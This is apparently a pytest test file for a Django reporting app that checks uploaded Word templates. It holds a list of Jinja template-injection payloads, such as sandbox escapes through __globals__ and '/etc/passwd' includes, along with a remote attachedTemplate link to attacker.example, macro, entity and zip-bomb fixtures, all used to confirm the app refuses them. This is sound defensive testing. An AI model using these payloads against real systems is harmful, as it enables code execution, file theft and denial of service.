"""A Word template of the State: what it may contain, what is refused and why, and what a report in it has."""

from contextlib import closing
from datetime import date, datetime
from io import BytesIO
from time import monotonic
from unittest.mock import Mock
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation
from docx import Document
from lxml import etree

from servanda.kit.files.archives import MOST_UNPACKED_BYTES
from servanda.kit.refusal import FieldRefused, Refused
from servanda.people.access import Role
from servanda.recommendations.models import Cluster, ClusterMember
from servanda.reporting.documents.contents import document_of, in_language_of
from servanda.reporting.documents.files import WRITERS
from servanda.reporting.documents.template_fields import FORBIDDEN, LIST, NO_LIST, SYNTAX, UNKNOWN
from servanda.reporting.documents.template_process import UNFINISHED, Faulty, Template, filled
from servanda.reporting.models import WordTemplate
from servanda.reporting.reports import services as reports
from servanda.reporting.word_templates import services
from servanda.trail.models import Event
from tests import make, reports_make
from tests.word_check import W, faults
from tests.word_templates_make import WHOLE, added, administrator, example, with_parts, word_file

pytestmark = pytest.mark.django_db
AT = datetime(2026, 11, 29, 10, tzinfo=timezone.get_default_timezone())


@pytest.fixture
def admin():
    return administrator()


def written(report, by, *, is_draft: bool = True) -> bytes:
    with in_language_of(report):
        document = document_of(report, by, on=date(2026, 11, 29), is_draft=is_draft)
        with closing(WRITERS["docx"](document, AT)) as file:
            return file.read()


def text_of(content: bytes, part: str = "word/document.xml") -> str:
    root = etree.fromstring(ZipFile(BytesIO(content)).read(part))
    return "\n".join("".join(words.itertext()) for words in root.iter(f"{W}p"))


def report_in(template: WordTemplate, by, **fields):
    shape = reports_make.template("Mid-term report", "Method", "Chapters")
    reports_make.section(shape, "Annex: matrix", content="matrix", is_counted=False)
    cluster = Cluster.objects.create(name="Education")
    for number in range(3):
        record = make.recommendation(f"Build {number} schools & <open> them.")
        ClusterMember.objects.create(cluster=cluster, recommendation=record)
    report = reports_make.report(by, template=shape, cluster=cluster, word_template=template, **fields)
    section = report.sections.get(key="method")
    text = "See [](#chapters) and [#](#chapters).\n\n1. first\n2. second\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    quoted = reports.quote_fact(
        section=section, source=reports_make.source("updates"), fact=reports_make.fact(), text="", seen=1, by=by
    )
    reports.write_section(section=quoted, text=f"Known.[^1] {text}", seen=quoted.version, by=by)
    chapters = report.sections.get(key="chapters")
    reports.write_section(section=chapters, text="One paragraph.", seen=chapters.version, by=by)
    return report


def refusal_of(content: bytes, by) -> str:
    with pytest.raises(FieldRefused) as refused:
        added(content, by=by)
    assert refused.value.field == "file"
    assert not WordTemplate.objects.exists()
    return str(refused.value)


def test_the_example_is_accepted_and_a_report_in_it_opens_without_repair(admin):
    template = added(by=admin)
    content = written(report_in(template, admin), admin)
    assert faults(content) == []
    text = text_of(content)
    for words in ("One paragraph.", "Chapters", "first", "Build 2 schools & <open> them.", "Draft"):
        assert words in text
    assert "{" not in text
    assert "Update, Ministry" in text_of(content, "word/endnotes.xml")
    assert Event.objects.filter(action="word-template-added").count() == 1


@pytest.mark.parametrize("language", ["ar", "es", "fr", "pt"])
def test_the_example_of_each_language_is_accepted(admin, language):
    with translation.override(language):
        content = example()
        added(content, language=language, by=admin)
    body = ZipFile(BytesIO(content)).read("word/document.xml")
    assert (b"<w:bidi/>" in body) == (language == "ar")


def test_a_submitted_report_has_no_status(admin):
    report = report_in(added(by=admin), admin)
    assert "Draft" in text_of(written(report, admin))
    assert "Draft" not in text_of(written(report, admin, is_draft=False))


def test_a_file_that_word_saved_is_accepted_and_keeps_its_own_styles(admin):
    template = added(word_file(*WHOLE, edit=lambda document: document.add_heading("Foreword", 1)), by=admin)
    content = written(report_in(template, admin), admin)
    assert faults(content) == []
    document = Document(BytesIO(content))
    headings = [p.text for p in document.paragraphs if p.style.name.lower() == "heading 1"]
    assert headings == ["Method", "Chapters", "Annex: matrix", "Foreword"]
    assert document.styles["Heading 1"].font.name is None or "Times" not in document.styles["Heading 1"].font.name
    assert [section.orientation for section in document.sections] == [0, 1, 0]


def test_sections_can_be_written_one_by_one(admin):
    loop = (
        "{{ title }} {{ status }}",
        "{%p for section in sections %}",
        "Chapter {{ section.number }} {{ section.heading }}",
        "{{ section.text }}",
        "{%p endfor %}",
    )
    content = written(report_in(added(word_file(*loop), by=admin), admin), admin)
    assert faults(content) == []
    text = text_of(content)
    assert "Chapter I. Method" in text
    assert text.index("Known.") < text.index("Chapter II. Chapters") < text.index("One paragraph.")
    assert "Build 2 schools & <open> them." in text, "the annex, for which the template has no place, comes last"


def test_a_template_without_a_place_for_a_section_is_refused(admin):
    lost = ("{{ status }}", "{%p for row in sections if row.depth == 2 %}", "{{ row.text }}", "{%p endfor %}")
    assert "First section" in refusal_of(word_file(*lost), admin)
    assert "no place for the text" in refusal_of(word_file("{{ title }}", "{{ status }}"), admin)


def test_a_template_without_the_status_is_refused(admin):
    assert "{{ status }}" in refusal_of(word_file("{{ title }}", "{{ text }}"), admin)


def test_unknown_fields_are_named_with_their_places(admin):
    def edit(document):
        document.sections[0].header.paragraphs[0].text = "By {{ author }}"
        document.add_table(1, 1).cell(0, 0).text = "cell {{ titel }}"

    sentence = refusal_of(word_file(*WHOLE, "in {{ body.name }}", edit=edit), admin)
    for words in ("“author” in the header, at “By {{ author }}”", "“titel” in the text, at “cell {{ titel }}”"):
        assert words in sentence
    assert "“body.name”" in sentence


HOSTILE = {
    "classes": "{{ ''.__class__.__mro__ }}",
    "globals of a function": "{{ cycler.__init__.__globals__ }}",
    "self": "{{ self.__init__.__globals__ }}",
    "a method": "{{ title.format(title) }}",
    "a format string": "{{ '{0.__class__}'.format(title) }}",
    "a format filter": "{{ '%s'|format(title) }}",
    "attr": "{{ title|attr('__class__') }}",
    "an item": "{{ title['__class__'] }}",
    "map": "{{ sections|map(attribute='__class__')|list }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}",
    "from": "{% from 'os' import path %}",
    "extends": "{% extends 'base' %}",
    "a macro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "set": "{% set x = 1 %}",
    "a long range": "{% for i in range(10**9) %}x{% endfor %}",
    "power": "{{ 9**9**9 }}",
    "a long text": "{{ 'x' * 10**9 }}",
    "joined": "{{ title ~ title }}",
    "safe": "{{ title|safe }}",
    "no escaping": "{% autoescape false %}{{ title }}{% endautoescape %}",
    "center": "{{ title|center(1000000000) }}",
    "loops in loops": "{% for a in sections %}{% for b in sections %}{% for c in sections %}x{% endfor %}"
    "{% endfor %}{% endfor %}",
    "a recursive loop": "{% for a in sections recursive %}{{ loop(sections) }}{% endfor %}",
    "dict": "{{ dict.mro() }}",
    "lipsum": "{{ lipsum.__globals__ }}",
    "namespace": "{% set n = namespace(a=1) %}",
    "a call": "{% call(x) title() %}{% endcall %}",
    "debug": "{% debug %}",
    "a list": "{{ sections }}",
    "a test": "{% if title is defined %}x{% endif %}",
    "unfinished": "{{ title",
    "an odd tag": "{% nothing %}",
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE)
def test_hostile_code_is_named_before_anything_is_filled(tmp_path, monkeypatch, code):
    """What the process that fills templates does; that it refuses the file is seen below."""
    path = tmp_path / "template.docx"
    path.write_bytes(word_file(*WHOLE, code))
    monkeypatch.setattr(Template, "render", Mock(side_effect=AssertionError("filled")))
    with pytest.raises(Faulty) as refused:
        filled(path, {})
    assert {fault.kind for fault in refused.value.faults} <= {UNKNOWN, FORBIDDEN, LIST, NO_LIST, SYNTAX, UNFINISHED}
    assert all(fault.near for fault in refused.value.faults)


def test_escaping_is_not_switched_off(admin):
    code = "{% autoescape false %}{{ title }}{% endautoescape %}"
    assert "“autoescape” in the text" in refusal_of(word_file(*WHOLE, code), admin)


def test_code_that_is_too_deep_for_the_process_is_refused(admin):
    begun = monotonic()
    refusal_of(word_file(*WHOLE, "{{ " + "(" * 3000 + "title" + ")" * 3000 + " }}"), admin)
    assert monotonic() - begun < 25


def test_hostile_code_is_found_in_every_part_and_across_runs(admin):
    code = "{{ ''.__class__ }}"

    def edit(document):
        paragraph = document.add_paragraph()
        for piece in ("{", "{ ''", ".__cl", "ass__ }", "}"):
            paragraph.add_run(piece).bold = len(piece) > 4
        document.sections[0].footer.paragraphs[0].text = code

    sentence = refusal_of(word_file(*WHOLE, edit=edit), admin)
    assert "in the text" in sentence
    assert "in the footer" in sentence


BOX = (
    '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml"><w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r>'
    "<w:t>%s</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
)


def in_body(xml: str):
    return lambda body: body.replace(b"</w:body>", xml.encode() + b"</w:body>")


def test_text_boxes_are_filled_and_checked(admin):
    content = word_file(*WHOLE)
    hostile = with_parts(content, {"word/document.xml": in_body(BOX % "{{ ''.__class__ }}")})
    assert "“''.__class__”" in refusal_of(hostile, admin)
    template = added(with_parts(content, {"word/document.xml": in_body(BOX % "Box: {{ date }}")}), by=admin)
    assert "Box: 29 November 2026" in text_of(written(report_in(template, admin), admin))


def test_a_place_inside_of_a_text_box_is_refused(admin):
    content = with_parts(word_file("{{ status }}", "{{ title }}"), {"word/document.xml": in_body(BOX % "{{ text }}")})
    assert "{{ text }} must be alone in a paragraph" in refusal_of(content, admin)


@pytest.mark.parametrize(
    ("paragraphs", "words"),
    [
        (("{{ status }}", "Text: {{ text }}"), "must be alone"),
        (("{{ status }}", "{{ text }}", "{{ text }}"), "used twice"),
        (("{{ status }}", "{{ text|upper }}"), "no place for the text"),
        (
            ("{{ status }}", "{{ text }}", "{% for s in sections %}x{% endfor %}", "{% for s in x %}"),
            "cannot be read",
        ),
        (("{{ status }}", "{{ text }}", "{{ facts.label }}"), "Unknown field “facts.label”"),
        (("{{ status }}", "{{ text }}", "{% for a in title %}x{% endfor %}"), "is not a list"),
    ],
)
def test_what_is_wrong_is_named(admin, paragraphs, words):
    assert words in refusal_of(word_file(*paragraphs), admin)


def test_a_loop_that_would_break_the_file_is_refused(admin):
    def edit(document):
        cell = document.add_table(1, 1).cell(0, 0)
        cell.text = "{% for fact in facts %}"
        document.add_paragraph("{% endfor %}")

    assert "begins inside of something" in refusal_of(word_file(*WHOLE, edit=edit), admin)


def test_tags_outside_of_texts_are_refused(admin):
    field = (
        '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><w:fldChar '
        'w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE {{ title }}</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    content = with_parts(word_file(*WHOLE), {"word/document.xml": in_body(field)})
    assert "not in the text of a paragraph" in refusal_of(content, admin)


VALUES = {
    "signs of XML": "A & B < C > \"D\" 'E' ]]> &amp;",
    "a field": "{{ title }} {% for a in b %} {# no #} {_{ title }_}",
    "control characters": "a\x00b\x07c\x0bd\x1fe\ufffef",
    "direction": "a\u202eb\u2066c\u2069",
    "lines": "a\nb\tc\u2028d",
}


@pytest.mark.parametrize("value", VALUES.values(), ids=VALUES)
def test_values_stay_the_text_that_they_are(admin, value):
    report = report_in(added(by=admin), admin)
    type(report).objects.filter(pk=report.pk).update(title=value.replace("\x00", ""))
    report.refresh_from_db()
    content = written(report, admin)
    assert faults(content) == []
    expected = " ".join(
        "".join(sign for sign in value if sign not in "\x00\x07\x0b\x1f\ufffe\u202e\u2066\u2069").split()
    )
    shown = [" ".join(line.split()) for line in text_of(content).split("\n")]
    assert expected in shown


MACROS = b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'
PLAIN = b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"'
OUTSIDE = (
    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        ({"[Content_Types].xml": lambda part: part.replace(PLAIN, MACROS)}, "macros"),
        (
            {"word/_rels/document.xml.rels": lambda part: part.replace(b"</Relationships>", OUTSIDE)},
            "https://attacker.example/t.dotm",
        ),
        (
            {"word/document.xml": lambda part: b'<!DOCTYPE a [<!ENTITY b "c">]>' + part.partition(b"?>")[2]},
            "damaged",
        ),
        ({"word/document.xml": b"<w:document"}, "damaged"),
        ({"word/_rels/unused.xml.rels": b"<open"}, "damaged"),
    ],
    ids=["macros", "a remote template", "a document type", "no XML", "no XML beside the document"],
)
def test_files_that_are_not_safe_to_open_are_refused(admin, parts, words):
    assert words in refusal_of(with_parts(word_file(*WHOLE), parts), admin)


def test_a_file_that_unpacks_to_more_than_the_limit_is_refused(admin):
    made, piece = BytesIO(word_file(*WHOLE)), b"0" * 10_000_000
    with ZipFile(made, "a", ZIP_DEFLATED, compresslevel=1) as file, file.open("word/big.xml", "w") as part:
        for _piece in range(MOST_UNPACKED_BYTES // len(piece) + 1):
            part.write(piece)
    assert "unpacks to" in refusal_of(made.getvalue(), admin)


@pytest.mark.parametrize("content", [b"", b"hello", b"PK\x03\x04", b"\xd0\xcf\x11\xe0old"])
def test_other_files_are_refused(admin, content):
    assert refusal_of(content, admin)


def test_the_same_file_is_added_once(admin):
    content = example()
    added(content, by=admin)
    with pytest.raises(FieldRefused, match="already added as “Ministry”"):
        added(content, name="Again", by=admin)


def test_only_administrators_add_and_retire_templates(admin):
    coordinator = make.user(Role.COORDINATOR)
    with pytest.raises(Refused, match="Only administrators"):
        added(by=coordinator)
    template = added(by=admin)
    with pytest.raises(Refused, match="Only administrators"):
        services.retire_word_template(template=template, by=coordinator)
    services.retire_word_template(template=template, by=admin)
    assert not WordTemplate.objects.offered().exists()
    services.offer_word_template(template=template, by=admin)
    assert WordTemplate.objects.offered().get() == template


def test_a_template_of_another_language_is_refused(admin):
    template = added(language="fr", by=admin)
    with pytest.raises(FieldRefused, match="another language"):
        reports_make.report(admin, word_template=template)


def test_a_name_is_needed(admin):
    with pytest.raises(FieldRefused, match="Enter a name"):
        services.add_word_template(name=" ", language="", file=SimpleUploadedFile("a.docx", example()), by=admin)
